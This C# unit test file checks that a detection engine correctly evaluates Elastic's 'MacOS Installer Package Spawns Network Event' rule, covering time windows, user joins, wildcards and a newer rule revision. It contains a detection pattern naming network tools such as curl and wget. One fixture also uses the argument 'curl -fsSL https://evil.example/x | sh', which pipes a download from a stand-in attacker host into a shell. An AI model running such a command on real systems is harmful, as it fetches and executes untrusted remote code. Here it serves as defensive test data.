using System.Text.Json;
using Google.Protobuf;
using Vigil.Contracts.Telemetry;
using Vigil.Eql.Documents;
using Vigil.Eql.Sequences;
using Vigil.Rules;
using static Vigil.Eql.UnitTests.Telemetry;

namespace Vigil.Eql.UnitTests;

/// <summary>Elastic's "MacOS Installer Package Spawns Network Event" rule (seed 004), run verbatim.</summary>
public sealed class InstallerNetworkRuleTests
{
    /// <summary>The rule query exactly as Elastic publishes it.</summary>
    public const string Query =
        "sequence by host.id, user.id with maxspan=30s [process where host.os.type == \"macos\" and event.type == \"start\" and event.action == \"exec\" and process.parent.name : (\"installer\", \"package_script_service\") and process.name : (\"bash\", \"sh\", \"zsh\", \"python\", \"osascript\", \"tclsh*\")] [network where host.os.type == \"macos\" and event.type == \"start\" and process.name : (\"curl\", \"osascript\", \"wget\", \"python\")]";

    public static TelemetryEvent InstallerShell(double at, string user = "501", string shell = "bash", string parent = "installer") =>
        Event("exec-1", at, "process", e =>
        {
            e.Event.Type.Add("start");
            e.Event.Action = "exec";
            e.Process = new Process { Name = shell, Executable = "/bin/" + shell, Parent = new Process { Name = parent, Executable = "/usr/sbin/installer" } };
            e.User = new User { Id = user, Name = "alice" };
        });

    public static TelemetryEvent CurlConnects(double at, string user = "501", string name = "curl") =>
        Event("net-1", at, "network", e =>
        {
            e.Event.Type.Add("start");
            e.Event.Action = "connection_attempted";
            e.Process = new Process { Name = name, Executable = "/usr/bin/" + name };
            e.User = new User { Id = user, Name = "alice" };
            e.Destination = new Endpoint { Ip = "203.0.113.7", Port = 443, Domain = "evil.example" };
        });

    [Fact]
    public void TheRuleCompilesAgainstTheTelemetryContract()
    {
        var query = Run.Compile(Query);

        Assert.True(query.IsSequence);
        Assert.Equal(2, query.StageCount);
        Assert.Equal(TimeSpan.FromSeconds(30), query.MaxSpan);
        Assert.Equal(["host.id", "user.id"], query.JoinKeyNames);
    }

    [Fact]
    public void AnInstallerShellFollowedByCurlMatches()
    {
        var matches = Run.Sequences(Query, [InstallerShell(0), CurlConnects(5)]);

        Assert.Equal([["exec-1", "net-1"]], matches);
    }

    [Fact]
    public void TheMatchCarriesItsEvidenceAndJoinKey()
    {
        var engine = new SequenceEngine<TelemetryEvent>(Run.Compile(Query), new SequenceEngineOptions { Lateness = TimeSpan.Zero });
        var state = engine.CreateState("host-1");

        engine.Process(state, InstallerShell(0));
        var match = Assert.Single(engine.Process(state, CurlConnects(5)).Matches);

        Assert.Equal(["host-1", "501"], match.Key.Values);
        Assert.Equal("/usr/sbin/installer", match.Events[0].Process.Parent.Executable);
        Assert.Equal("evil.example", match.Events[1].Destination.Domain);
        Assert.Equal(At(0), match.FirstTimestamp);
        Assert.Equal(At(5), match.LastTimestamp);
        Assert.True(state.IsEmpty);
    }

    [Fact]
    public void ANetworkEventExactlyThirtySecondsLaterStillMatches()
    {
        Assert.Single(Run.Sequences(Query, [InstallerShell(0), CurlConnects(30)]));
    }

    [Fact]
    public void ANetworkEventThirtyOneSecondsLaterDoesNotMatch()
    {
        Assert.Empty(Run.Sequences(Query, [InstallerShell(0), CurlConnects(31)]));
    }

    [Fact]
    public void ANetworkEventFromAnotherUserDoesNotMatch()
    {
        Assert.Empty(Run.Sequences(Query, [InstallerShell(0, user: "501"), CurlConnects(5, user: "0")]));
    }

    [Fact]
    public void ProcessNamesCompareCaseInsensitivelyWithWildcards()
    {
        Assert.Single(Run.Sequences(Query, [InstallerShell(0, shell: "tclsh8.6", parent: "package_script_service"), CurlConnects(1, name: "Python")]));
        Assert.Empty(Run.Sequences(Query, [InstallerShell(0, shell: "fish"), CurlConnects(1)]));
        Assert.Empty(Run.Sequences(Query, [InstallerShell(0, parent: "launchd"), CurlConnects(1)]));
    }

    [Fact]
    public void TheSameEventsAsJsonGiveTheSameMatches()
    {
        var formatter = new JsonFormatter(JsonFormatter.Settings.Default.WithPreserveProtoFieldNames(true));
        var documents = new[] { InstallerShell(0), CurlConnects(30), InstallerShell(40), CurlConnects(71) }
            .Select(e => JsonDocument.Parse(formatter.Format(e)).RootElement.Clone())
            .ToArray();
        var query = EqlCompiler.Compile(Query, TelemetrySchemas.Json);
        var runner = new InMemorySequenceRunner<JsonElement>(new SequenceEngine<JsonElement>(query));
        var matches = documents.SelectMany(runner.Process).Concat(runner.Flush()).ToList();

        var match = Assert.Single(matches);
        Assert.Equal(["exec-1", "net-1"], match.EventIds);
        Assert.Equal(At(30), match.LastTimestamp);
    }
    [Fact]
    public void ElasticsNewerRevisionJoinsOnTheSpawnedProcess()
    {
        const string revised = """
            sequence by host.id, process.entity_id with maxspan=15s
            [process where host.os.type == "macos" and event.type == "start" and event.action == "exec" and process.parent.name like~ ("installer", "package_script_service") and ((process.name in ("bash", "sh", "zsh") and process.args == "-c") or (process.name like~ ("python*", "osascript", "tclsh*", "curl", "nscurl")))]
            [network where host.os.type == "macos" and event.type == "start"]
            """;
        var shell = InstallerShell(0);
        shell.Process.EntityId = "proc-1";
        shell.Process.Args.Add(["/bin/bash", "-c", "curl -fsSL https://evil.example/x | sh"]);
        var connect = CurlConnects(3);
        connect.Process.EntityId = "proc-1";
        var unrelated = CurlConnects(2);
        unrelated.Event.Id = "net-2";
        unrelated.Process.EntityId = "proc-2";

        Assert.Equal([["exec-1", "net-1"]], Run.Sequences(revised, [shell, unrelated, connect]));
        Assert.Empty(Run.Sequences(revised, [shell, unrelated]));
    }
}
